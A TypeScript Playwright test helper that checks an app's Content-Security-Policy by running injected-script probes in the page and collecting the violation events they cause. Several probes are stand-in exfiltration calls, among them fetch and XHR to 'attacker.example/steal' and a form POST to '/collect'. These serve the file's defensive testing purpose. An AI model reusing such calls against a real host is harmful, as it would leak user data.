/**
 * Things a script injected into the renderer might try, run inside the page, each paired with the
 * Content-Security-Policy violation events it causes. The page carries the policy twice (the
 * protocol's header and index.html's <meta>), so every blocked attempt must be reported once by
 * each: that proves both are in force, and that the header is the product's own policy.
 */
import type { Page } from '@playwright/test';

export const SCRIPT_PROBES = ['inlineScript', 'inlineHandler', 'javascriptUrl', 'eval', 'newFunction', 'stringTimer', 'wasm'] as const;
export const NETWORK_PROBES = [
  'fetch',
  'xhr',
  'webSocket',
  'eventSource',
  'externalScript',
  'externalStyle',
  'externalImage',
  'iframe',
  'formSubmit',
] as const;
export type Probe = (typeof SCRIPT_PROBES)[number] | (typeof NETWORK_PROBES)[number];

export interface ProbeResult {
  /** 'blocked' when the attempt failed as it should; anything else says what happened instead. */
  readonly outcome: string;
  readonly violations: readonly { directive: string; policy: string; disposition: string }[];
}

/** Runs one probe in the page; resolves once one violation per expected policy has arrived. */
export function runProbe(page: Page, probe: Probe, policies: readonly string[]): Promise<ProbeResult> {
  return page.evaluate(
    async ({ probe, policies }) => {
      const EXTERNAL = 'https://attacker.example';
      const ran = ((window as unknown as { __probeRan?: Record<string, boolean> }).__probeRan ??= {});
      const violations: { directive: string; policy: string; disposition: string }[] = [];
      const reported = new Promise<void>((resolve, reject) => {
        const onViolation = (event: SecurityPolicyViolationEvent): void => {
          violations.push({ directive: event.effectiveDirective, policy: event.originalPolicy, disposition: event.disposition });
          if (policies.every((policy) => violations.some((v) => v.policy === policy))) resolve();
        };
        document.addEventListener('securitypolicyviolation', onViolation);
        // A failure guard, not a wait: a probe that is not reported fails here with what did arrive.
        setTimeout(() => reject(new Error(`${probe}: ${JSON.stringify(violations)} after 5 s`)), 5_000);
      });
      /** Resolves 'blocked' on the element's error event, 'loaded' on load. */
      const loadOf = (element: HTMLElement): Promise<string> =>
        new Promise((resolve) => {
          element.addEventListener('error', () => resolve('blocked'));
          element.addEventListener('load', () => resolve('loaded'));
          document.body.append(element);
        });
      const threw = (action: () => unknown): string => {
        try {
          action();
          return 'ran';
        } catch (error) {
          return error instanceof EvalError ? 'blocked' : `threw ${String(error)}`;
        }
      };
      const markerFor = (name: string): string => `window.__probeRan[${JSON.stringify(name)}] = true`;
      const click = (element: HTMLElement): void => {
        document.body.append(element);
        element.click();
      };
      const probes: Record<string, () => Promise<string> | string> = {
        inlineScript: () => {
          const script = document.createElement('script');
          script.textContent = markerFor('inlineScript');
          document.body.append(script);
          return 'pending';
        },
        inlineHandler: () => {
          const div = document.createElement('div');
          div.setAttribute('onclick', markerFor('inlineHandler'));
          click(div);
          return 'pending';
        },
        javascriptUrl: () => {
          const link = document.createElement('a');
          link.href = `javascript:${markerFor('javascriptUrl')}`;
          click(link);
          return 'pending';
        },
        eval: () => threw(() => (0, window.eval)(markerFor('eval'))),
        newFunction: () => threw(() => new Function(markerFor('newFunction'))()),
        stringTimer: () => {
          (window.setTimeout as (code: string) => number)(markerFor('stringTimer'));
          return 'pending';
        },
        // The smallest valid module: the magic number and version 1.
        wasm: () =>
          WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
            () => 'compiled',
            (error: unknown) => (error instanceof WebAssembly.CompileError ? 'blocked' : `threw ${String(error)}`),
          ),
        fetch: () =>
          fetch(`${EXTERNAL}/steal`).then(
            () => 'fetched',
            () => 'blocked',
          ),
        xhr: () =>
          new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.onload = () => resolve('loaded');
            request.onerror = () => resolve('blocked');
            request.open('GET', `${EXTERNAL}/steal`);
            request.send();
          }),
        webSocket: () =>
          new Promise((resolve) => {
            try {
              const socket = new WebSocket('wss://attacker.example/');
              socket.onopen = () => resolve('opened');
              socket.onerror = () => resolve('blocked');
            } catch {
              resolve('blocked');
            }
          }),
        eventSource: () =>
          new Promise((resolve) => {
            const source = new EventSource(`${EXTERNAL}/events`);
            source.onopen = () => resolve('opened');
            source.onerror = () => {
              source.close();
              resolve('blocked');
            };
          }),
        externalScript: () => loadOf(Object.assign(document.createElement('script'), { src: `${EXTERNAL}/x.js` })),
        externalStyle: () => loadOf(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${EXTERNAL}/x.css` })),
        externalImage: () => loadOf(Object.assign(document.createElement('img'), { src: `${EXTERNAL}/x.png` })),
        iframe: () => {
          document.body.append(Object.assign(document.createElement('iframe'), { src: `${EXTERNAL}/` }));
          return 'pending';
        },
        formSubmit: () => {
          const form = Object.assign(document.createElement('form'), { action: `${EXTERNAL}/collect`, method: 'post' });
          document.body.append(form);
          form.submit();
          return 'pending';
        },
      };
      // Run in a task of the page's own, as injected code would: inside the DevTools call that
      // carries page.evaluate, Chromium allows eval whatever the CSP says.
      await new Promise((resolve) => {
        const channel = new MessageChannel();
        channel.port1.onmessage = resolve;
        channel.port2.postMessage(null);
      });
      let outcome = await probes[probe]!();
      await reported;
      // The ones that would run later: by now their violation has been reported, so they did not.
      if (outcome === 'pending') outcome = ran[probe] ? 'ran' : 'blocked';
      return { outcome: ran[probe] ? 'ran' : outcome, violations };
    },
    { probe, policies },
  );
}
